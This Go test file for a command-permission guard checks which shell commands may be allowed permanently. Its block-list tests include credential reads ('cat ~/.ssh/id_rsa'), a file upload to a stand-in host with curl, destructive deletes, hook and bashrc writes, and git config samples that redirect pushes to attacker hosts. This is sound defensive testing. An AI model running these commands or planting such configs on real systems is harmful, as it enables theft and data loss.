package pathguard

import (
	"reflect"
	"slices"
	"strings"
	"testing"
)

// lastingOf returns what may be allowed for good of a line, each as its words.
func (g Guard) lastingOf(t *testing.T, line string) (list []string) {
	t.Helper()
	v, plan, err := g.judge(line)
	if err != nil {
		t.Fatal(err)
	}
	defer plan.Close()
	for _, l := range g.Policy.Lasting(plan, v) {
		list = append(list, strings.Join(l.Words, " "))
	}
	return list
}

// hash is what the file of a branch holds.
const hash = "0123456789abcdef0123456789abcdef01234567\n"

// lastingDesk is a workspace with remotes, and with programs in a folder of PATH.
func lastingDesk(t *testing.T) (Guard, string) {
	g, root := desk(t, "", "home/dev/.ssh/id_rsa", "home/dev/other/x", "w/k8s/app.yaml")
	put(t, root, map[string]string{"w/.git/HEAD": "ref: refs/heads/main\n",
		"w/.git/objects/info/x": "", "w/.git/config": `
[remote "origin"]
	url = https://github.com/acme/app.git
`})
	for _, branch := range []string{"main", "feature/a", "feature/b", "a/b/c"} {
		put(t, root, map[string]string{"w/.git/refs/heads/" + branch: hash})
	}
	for name := range strings.FieldsSeq("git gh kubectl helm pkill go cp bash tee") {
		put(t, root, map[string]string{"home/dev/.local/bin/" + name: "#!/bin/sh\n"})
	}
	g.Caller.Env["PATH"] = root + "/home/dev/.local/bin:/usr/bin:/bin"
	return g, root
}

// What may be allowed for good is narrow: the words of the command, and of these only a name in a
// folder, a number, or a text that people read may vary.
func TestLasting(t *testing.T) {
	g, _ := lastingDesk(t)
	for _, c := range []struct {
		line string
		want []string
	}{
		{"git push origin main", []string{"push origin main"}},
		{"git push -u origin feature/a",
			[]string{"push -u origin feature/a", "push -u origin feature/*"}},
		{"cd . && git push origin feature/a > /dev/null 2>&1",
			[]string{"push origin feature/a", "push origin feature/*"}},
		{"cd src && git push origin a/b/c", []string{"push origin a/b/c", "push origin a/b/*"}},
		{"gh pr create --title 'a b' --body=c",
			[]string{"pr create --title a b --body=c", "pr create --title * --body=*"}},
		{"gh pr create --draft -t a -b x --base main",
			[]string{"pr create --draft -t a -b x --base main",
				"pr create --draft -t * -b * --base main"}},
		{"gh pr comment 12 -b hi", []string{"pr comment 12 -b hi", "pr comment * -b *"}},
		{"pkill -f vite", []string{"-f vite"}},
		{"go install example.test/x/cmd/y@v1.2.3",
			[]string{"install example.test/x/cmd/y@v1.2.3"}},
		{"cp src/a.go ~/other/x", []string{"src/a.go " + g.Caller.Home + "/other/x"}},
		{"mkdir -p ~/other/dir", []string{"-p " + g.Caller.Home + "/other/dir"}},
	} {
		if got := g.lastingOf(t, c.line); !slices.Equal(got, c.want) {
			t.Errorf("%q: %q, want %q", c.line, got, c.want)
		}
	}
}

// E-std-2: what has to be asked about every time may not be allowed for good either.
func TestLastingNever(t *testing.T) {
	g, root := lastingDesk(t)
	put(t, root, map[string]string{"w/s.sh": "git push origin main\n", "w/.env": "K=v\n"})
	for _, line := range []string{
		"ls", "git push", "git push origin", "git push --force origin feature/a",
		"git push origin +feature/a", "git push origin :feature/a", "git push --mirror origin x",
		"git push nowhere feature/a",
		"git -c remote.origin.url=https://x.test/y push origin feature/a",
		"GIT_DIR=/x git push origin feature/a", "export GIT_DIR=/x; git push origin feature/a",
		"env git push origin feature/a", "sh -c 'git push origin feature/a'", "sh s.sh",
		"git() { :; }; git push origin feature/a", "alias git=x; git push origin feature/a",
		"eval git push origin feature/a", "git push origin $B",
		"git push origin feature/$(cat b)", "git push origin feature/a | sh",
		"git push origin feature/a; python3 -c 'print(1)'", "git push origin 'feature/*'",
		"git push origin main; pkill vite", "git push origin main; cat .env",
		"cat ~/.ssh/id_rsa", "rm -r ~/other", "echo x > ~/.bashrc", "cp x ~/.ssh/config",
		"echo x > .git/hooks/pre-push", "kubectl apply -f k8s/app.yaml", "kubectl delete pod x",
		"curl -d @src/a.go https://x.test", "npm publish", "gh repo delete a/b --yes",
		"gh pr merge 1", "sudo ls", "bash s.sh > ~/other/x", "PATH=/x; pkill vite",
		"HOME=/x; git push origin feature/a", "for HOME in a; do pkill vite; done",
		"read HOME < x; pkill vite", "set -a; X=1; pkill vite", "timeout 3 pkill vite",
		"cd /; git push origin feature/a", "git push origin feature/a \u202e",
		"./x.py; git push origin feature/a", "make; git push origin feature/a",
		"npm run build; git push origin feature/a", "sleep 2; git push origin feature/a",
		"cat fifo; git push origin feature/a", "git push origin HEAD", "git push origin @",
		"git push origin HEAD:feature/a", "git push origin refs/heads/a",
		"git push origin refs/for/main", "git push origin feature/a b",
		"git push --no-verify origin feature/a", "git push origin main -o a/b",
		"git push --recurse-submodules=on-demand origin feature/a",
		"git push https://github.com/acme/app.git feature/a", "git push origin feature/../main",
		"git push --namespace=x origin feature/a", "kubectl --context=dev apply -f k8s/app.yaml",
		"kubectl --context= apply -f k8s/a", "helm upgrade x y --kube-context=dev",
		"gh pr review 1 --approve", "gh pr comment 1 --delete-last --yes",
		"gh pr comment 1 -F -", "gh pr comment -R evil/x 1 -b hi",
		"gh pr comment evil:branch -b hi",
		"gh pr comment https://github.com/evil/x/pull/1 -b hi", "gh pr comment １２ -b x",
		"gh pr comment 12 -b '*'", "gh pr edit 1 --base main", "gh pr create comment -t x",
		"gh pr create -t a -B +main", "cp src/a.go ~", "cp -r src ~/other",
		"cp src/a.go ~/.kube/config", "cp src/a.go ~/other/.envrc", "cp /dev/stdin ~/other/x",
		"cp - ~/other/x", "mv src ~/other/x", "curl -o ~/other/x https://x.test",
		"tar xf a.tar -C ~/other", "sed -i s/a/b/ ~/other/x", "ex -s ~/other/x",
		"vim -es ~/other/x", "patch -p0 -d ~/other", "dd of=$HOME/other/x", "ln -s a ~/other/y",
		"go install ./...", "go install example.test/x@latest",
		"go install -ldflags=-x example.test/x@v1.2.3", "go install example.test/x@main",
		"pkill -F -", "pkill -u dev", "glab mr create -t x", "git push origin nosuch",
		"git add -A && git push origin feature/a", "git commit -m x; git push origin feature/a",
		"git status && git push origin feature/a", "echo x; git push origin feature/a",
		"git push origin feature/a > out", "git push origin feature/a < fifo",
		": < fifo; git push origin feature/a", "gh issue create -t -b --repo=evil/x",
		"gh pr comment 12 -b -b --delete-last", "gh pr create -t a --head=../x", "pkill -f .",
		"pkill a", "pkill -f x y", "killall -9 sh",
	} {
		if got := g.lastingOf(t, line); got != nil {
			t.Errorf("%q: %q", line, got)
		}
	}
}

// A push is offered only where nothing in the repository changes what its words say: no mapping of
// names, no hook, no other reader of the address.
func TestLastingSettings(t *testing.T) {
	const plain = "[remote \"origin\"]\n\turl = https://github.com/acme/app\n"
	offered := []string{
		"",
		"[user]\n\tname = x\n",
		"[push]\n\tdefault = simple\n",
		"[branch \"feature/a\"]\n\tremote = origin\n\tmerge = refs/heads/main\n",
		"[filter \"lfs\"]\n\tclean = git-lfs clean -- %f\n\trequired = true\n",
		"[credential]\n\thelper = store\n",
		"[core]\n\thooksPath = /dev/null\n",
	}
	not := []string{
		"[remote \"origin\"]\n\tpushurl = https://github.com/evil/app\n",
		"[branch \"q\"]\n\tx = a\\\\\n",
		"[url \"https://evil.test/\"]\n\tpushInsteadOf = https://github.com/\n",
		"[push]\n\tdefault = upstream\n",
		"[push]\n\tdefault = matching\n",
		"[push]\n\trecurseSubmodules = on-demand\n",
		"[push]\n\tfollowTags\n",
		"[push]\n\tpushOption = x\n",
		"[submodule]\n\trecurse = true\n",
		"[remote \"origin\"]\n\tpush = +refs/heads/*:refs/heads/main\n",
		"[remote \"origin\"]\n\tmirror = true\n",
		"[lfs]\n\turl = https://x.test\n",
		"[remote \"origin\"]\n\turl = https://github.com/evil/app\n",
		"[core]\n\thooksPath = .husky\n",
		"[extensions]\n\trefStorage = reftable\n",
		"[user]\n\tx = \"a\n",
		"[remote \"evil\"]\n\turl = https://x.test/y\n",
		"[remote \"origin\"]\n\turl =\n",
		"[url \"https://x.test/\"]\n\tinsteadOf = zzz\n",
		"[include]\n\tpath = x\n",
		"[includeIf \"gitdir:/\"]\n\tpath = x\n",
		"[core]\n\tgitProxy = ./p\n",
		"[core]\n\tsshCommand = ./p\n",
		"[http]\n\tcurloptResolve = x:443:127.0.0.1\n",
		"[credential]\n\thelper = !./x\n",
		"[filter \"x\"]\n\tclean = ./x\n",
		"[hook \"x\"]\n\tcommand = ./x\n",
		"[branch \"x\"]\n\tgh-merge-base = y\n",
		"[user]\n\tname = \x00\n",
	}
	for i, text := range slices.Concat(offered, not) {
		g, root := lastingDesk(t)
		put(t, root, map[string]string{"w/.git/config": plain + text})
		got := g.lastingOf(t, "git push origin feature/a") != nil
		if got != (i < len(offered)) {
			t.Errorf("%q: offered %v", text, got)
		}
	}
	for name, text := range map[string]string{
		".git/hooks/pre-push": "#!/bin/sh\n", ".git/hooks/post-rewrite": "#!/bin/sh\n",
		".git/refs/tags/feature/a": hash, ".git/refs/remotes/feature/a/HEAD": hash,
		".git/refs/feature/a": hash, ".git/feature/a": hash, ".git/config.worktree": "",
		".git/packed-refs":          hash[:40] + " refs/tags/feature/a\n",
		".git/refs/heads/feature/a": "ref: refs/heads/main\n", ".lfsconfig": "[lfs]\nurl = x\n",
	} {
		g, root := lastingDesk(t)
		put(t, root, map[string]string{"w/" + name: text})
		if got := g.lastingOf(t, "git push origin feature/a"); got != nil {
			t.Errorf("%s: %q", name, got)
		}
	}
	for name, text := range map[string]string{ // for git these are no repositories
		".git/HEAD": "refs/heads/main\n", "src/.git/x": "", "src/.git": "gitdir:../.git\n",
		".git/commondir": " \n",
	} {
		g, root := lastingDesk(t)
		put(t, root, map[string]string{"w/" + name: text, "w/src/x": ""})
		if got := g.lastingOf(t, "cd src && git push origin feature/a"); got != nil {
			t.Errorf("%s: %q", name, got)
		}
	}
	g, root := lastingDesk(t)
	put(t, root, map[string]string{"w/.git/config": plain + "[remote \"fork\"]\n\turl = x:y/z\n"})
	if got := g.lastingOf(t, "gh pr comment 1 -b x"); got != nil {
		t.Errorf("one of two remotes: %q", got)
	}
}

// Of what is allowed for good, program, folder and all that is asked about are part: another
// repository is another question.
func TestLastingBinds(t *testing.T) {
	g, root := lastingDesk(t)
	of := func(line string) []Lasting {
		v, plan, err := g.judge(line)
		if err != nil {
			t.Fatal(err)
		}
		defer plan.Close()
		return g.Policy.Lasting(plan, v)
	}
	equal := func(a, b Lasting) bool { return reflect.DeepEqual(a, b) }
	line := "git push origin feature/a"
	first := of(line)
	if got := first[1].Asks; !slices.Equal(got, []string{
		"sends data from this machine to github.com/acme/app",
		"of https://github.com/acme/app.git alone"}) {
		t.Errorf("asks %q", got)
	}
	same := of("cd .; git push origin feature/b 2>&1")
	if len(same) != 2 || !equal(first[1], same[1]) || equal(first[0], same[0]) {
		t.Errorf("%+v", same)
	}
	for _, change := range []struct {
		what string
		do   func()
	}{
		{"folder", func() { g.Caller.Dir = root + "/w/src" }},
		{"program", func() {
			g.Caller.Dir = root + "/w"
			put(t, root, map[string]string{"home/dev/go/bin/git": "#!/bin/sh\n"})
			g.Caller.Env["PATH"] = root + "/home/dev/go/bin:/usr/bin:/bin"
		}},
		{"remote", func() {
			g.Caller.Env["PATH"] = root + "/home/dev/.local/bin:/usr/bin:/bin"
			put(t, root, map[string]string{
				"w/.git/config": "[remote \"origin\"]\n\turl = https://github.com/evil/app\n"})
		}},
	} {
		change.do()
		for _, l := range of(line) {
			if equal(l, first[0]) || equal(l, first[1]) {
				t.Errorf("another %s: %+v", change.what, l)
			}
		}
	}
}
